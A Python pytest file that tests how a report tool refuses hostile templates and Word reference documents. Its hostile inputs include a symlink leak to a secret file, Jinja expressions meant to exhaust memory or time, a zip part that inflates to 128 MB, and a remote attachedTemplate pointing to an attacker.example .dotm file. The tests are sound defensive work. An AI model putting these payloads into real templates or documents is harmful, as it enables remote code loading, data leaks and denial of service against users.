"""Templates and reference documents a user brings: bounded, and every failure one line.

A template folder cannot read files outside itself through a link; a
template cannot run for ever nor build gigabytes; its errors name the file
and line. A reference `.docx` that is not a Word document, is macro-enabled,
lacks styles or page setup, carries an external attached template or a part
that would inflate to gigabytes: one line and exit 2, or the external link
left out with a note.
"""

from __future__ import annotations

import json
import shutil
import time
import tracemalloc
import zipfile
from pathlib import Path

import docx
import pytest

from cwgdraft import cli
from cwgdraft.core import portable
from cwgdraft.core.errors import TemplateError
from cwgdraft.formats import render as render_module
from cwgdraft.formats.docx_writer import to_bytes
from cwgdraft.formats.render import DEFAULT_TEMPLATE, load_template, render
from tests import ooxml_check as oc
from tests.report_factory import full_report


def _folder(tmp_path: Path, body: str, name: str = "tpl") -> Path:
    folder = tmp_path / name
    shutil.copytree(DEFAULT_TEMPLATE, folder)
    (folder / "report.xml.j2").write_text(body, encoding="utf-8")
    return folder


def _export(tmp_path: Path, capsys: pytest.CaptureFixture[str], *extra: str) -> tuple[int, str]:
    """`cwgdraft export` of a full report with `extra` arguments: (exit status, stderr)."""
    db = tmp_path / "store.db"
    if not db.exists():
        source = tmp_path / "report.json"
        report = full_report()
        source.write_text(portable.dumps(report), encoding="utf-8")
        assert cli.main(["--db", str(db), "load", str(source)]) == 0
    capsys.readouterr()
    report_id = portable.read_file(tmp_path / "report.json").id
    code = cli.main(["--db", str(db), "export", report_id, *extra])
    err = capsys.readouterr().err
    assert "unexpected error" not in err and "Traceback" not in err
    return code, err


# --- template folders ------------------------------------------------------------


def test_a_link_out_of_the_template_folder_is_refused(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("the password is swordfish", encoding="utf-8")
    folder = _folder(tmp_path, "<document>{% include 'leak.txt' %}</document>")
    (folder / "leak.txt").symlink_to(secret)
    with pytest.raises(TemplateError, match="outside the template folder") as info:
        render(full_report(), load_template(folder))
    assert "swordfish" not in str(info.value)


def test_a_file_inside_the_folder_may_still_be_included(tmp_path: Path) -> None:
    folder = _folder(tmp_path, "<document><block style='body'>{% include 'part.txt' %}</block></document>")
    (folder / "part.txt").write_text("نص مضمّن (C22/7)", encoding="utf-8")
    document = render(full_report(), load_template(folder))
    assert document.blocks[0].text == "نص مضمّن (C22/7)"


@pytest.mark.parametrize(
    ("body", "words"),
    [
        ("{{ 'a' * 10**9 }}", "characters or items"),
        ("{% set ns = namespace(x='a') %}{% for i in range(40) %}{% set ns.x = ns.x + ns.x %}{% endfor %}", "characters"),
        ("{{ 7 ** 100000 }}", "bits"),
        ("{{ '%1000000000s' % 1 }}", "width"),
        ("{{ '{:>1000000000}'.format(1) }}", "width"),
        ("{{ 'a'|center(1000000000) }}", "width"),
        ("{% for i in range(100000) %}{{ 'x' * 1000 }}{% endfor %}", "more than"),
    ],
)
def test_a_template_cannot_build_gigabytes(tmp_path: Path, body: str, words: str) -> None:
    template = load_template(_folder(tmp_path, body))
    tracemalloc.start()
    started = time.monotonic()
    try:
        with pytest.raises(TemplateError, match=words):
            render(full_report(), template)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert time.monotonic() - started < 10
    assert peak < 500 * 1024 * 1024


def test_a_template_cannot_run_for_ever(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(render_module, "MAX_RENDER_SECONDS", 1.0)
    body = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}<document/>"
    template = load_template(_folder(tmp_path, body))
    started = time.monotonic()
    with pytest.raises(TemplateError, match="ran for more than"):
        render(full_report(), template)
    assert time.monotonic() - started < 5


def test_a_template_error_names_the_file_and_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = _folder(tmp_path, "<document>\n<block style='body'>\n{{ 1 // 0 }}</block></document>")
    code, err = _export(tmp_path, capsys, "-o", str(tmp_path / "out.docx"), "--template", str(folder))
    assert code == 2
    assert f"{folder / 'report.xml.j2'}:3" in err and "ZeroDivisionError" in err
    assert len(err.strip().splitlines()) == 1


def test_a_manifest_with_a_bom_is_read(tmp_path: Path) -> None:
    folder = _folder(tmp_path, (DEFAULT_TEMPLATE / "report.xml.j2").read_text(encoding="utf-8"))
    manifest = (DEFAULT_TEMPLATE / "manifest.json").read_bytes()
    (folder / "manifest.json").write_bytes(b"\xef\xbb\xbf" + manifest)
    assert load_template(folder).styles == load_template().styles


def test_a_manifest_nested_deep_is_one_line(tmp_path: Path) -> None:
    folder = _folder(tmp_path, "<document/>")
    (folder / "manifest.json").write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    with pytest.raises(TemplateError, match="nested too deep"):
        load_template(folder)


# --- reference documents ---------------------------------------------------------


def _rewrite(source: Path, target: Path, change: dict[str, bytes | None]) -> Path:
    """A copy of the zip `source` with parts replaced, added or (None) left out."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            if info.filename in change:
                continue
            out.writestr(info, src.read(info))
        for name, data in change.items():
            if data is not None:
                out.writestr(name, data)
    return target


REFERENCE = DEFAULT_TEMPLATE / "reference.docx"
SETTINGS_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
)


def test_an_external_attached_template_is_left_out_with_a_note(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with zipfile.ZipFile(REFERENCE) as z:
        settings = z.read("word/settings.xml")
    settings = settings.replace(b"<w:zoom ", b'<w:attachedTemplate r:id="rId1"/><w:zoom ')
    reference = _rewrite(
        REFERENCE, tmp_path / "ours.docx", {"word/settings.xml": settings, "word/_rels/settings.xml.rels": SETTINGS_RELS}
    )
    out = tmp_path / "out.docx"
    code, err = _export(tmp_path, capsys, "-o", str(out), "--template", str(reference))
    assert code == 0
    assert "attacker.example" in err and "left out" in err
    with zipfile.ZipFile(out) as z:
        everything = b"".join(z.read(n) for n in z.namelist())
    assert b"attacker.example" not in everything and b"attachedTemplate" not in everything
    pkg = oc.Package.from_path(out)
    assert oc.schema_errors(pkg) == []


def test_a_huge_part_in_the_reference_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    reference = tmp_path / "ours.docx"
    shutil.copy(REFERENCE, reference)
    with zipfile.ZipFile(reference, "a", zipfile.ZIP_DEFLATED) as z, z.open("word/media/image1.png", "w", force_zip64=True) as fh:
        block = b"\0" * (16 * 1024 * 1024)
        for _ in range(8):  # 128 MB of zeros, a few hundred KB on disk
            fh.write(block)
    tracemalloc.start()
    try:
        code, err = _export(tmp_path, capsys, "-o", str(tmp_path / "out.docx"), "--template", str(reference))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert code == 2 and "word/media/image1.png" in err and "limit" in err
    assert peak < 100 * 1024 * 1024
    assert not (tmp_path / "out.docx").exists()


@pytest.mark.parametrize(
    ("make", "words"),
    [
        (lambda p: p.write_bytes(b"plain text, not a Word document\n" * 20), "not a Word document"),
        (
            lambda p: _rewrite(
                REFERENCE,
                p,
                {
                    "[Content_Types].xml": zipfile.ZipFile(REFERENCE)
                    .read("[Content_Types].xml")
                    .replace(
                        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                        b"application/vnd.ms-word.document.macroEnabled.main+xml",
                    )
                },
            ),
            "macro-enabled",
        ),
        (
            lambda p: _rewrite(
                REFERENCE,
                p,
                {
                    "word/document.xml": zipfile.ZipFile(REFERENCE)
                    .read("word/document.xml")
                    .split(b"<w:sectPr")[0]
                    + b"</w:body></w:document>"
                },
            ),
            "no section properties",
        ),
    ],
)
def test_a_reference_that_cannot_be_filled_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str], make, words: str) -> None:  # type: ignore[no-untyped-def]
    reference = tmp_path / "ours.docx"
    make(reference)
    code, err = _export(tmp_path, capsys, "-o", str(tmp_path / "out.docx"), "--template", str(reference))
    assert code == 2, err
    assert words in err and str(reference) in err
    assert len(err.strip().splitlines()) == 1


def test_a_docm_template_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    reference = tmp_path / "ours.docm"
    shutil.copy(REFERENCE, reference)
    code, err = _export(tmp_path, capsys, "-o", str(tmp_path / "out.docx"), "--template", str(reference))
    assert code == 2 and "macro-enabled" in err


def test_a_reference_without_styles_is_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with zipfile.ZipFile(REFERENCE) as z:
        rels = z.read("word/_rels/document.xml.rels")
    import re

    rels = re.sub(rb'<Relationship [^>]*/styles"[^>]*/>', b"", rels)
    reference = _rewrite(REFERENCE, tmp_path / "ours.docx", {"word/styles.xml": None, "word/_rels/document.xml.rels": rels})
    code, err = _export(tmp_path, capsys, "-o", str(tmp_path / "out.docx"), "--template", str(reference))
    assert code == 2 and "no styles" in err


def test_a_report_dumped_beside_the_reference_is_not_its_style_map(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    reference = tmp_path / "r.docx"
    shutil.copy(REFERENCE, reference)
    (tmp_path / "r.json").write_text(portable.dumps(full_report()), encoding="utf-8")
    code, err = _export(tmp_path, capsys, "-o", str(tmp_path / "out.docx"), "--template", str(reference))
    assert code == 0, err
    assert load_template(reference).styles == load_template().styles
    assert docx.Document(str(tmp_path / "out.docx")).paragraphs


def test_the_council_reference_is_carried_whole(tmp_path: Path) -> None:
    data = to_bytes(render(full_report()))
    out = tmp_path / "out.docx"
    out.write_bytes(data)
    with zipfile.ZipFile(out) as z:
        assert "word/settings.xml" in z.namelist()
    assert json.loads((DEFAULT_TEMPLATE / "manifest.json").read_text(encoding="utf-8"))["styles"]
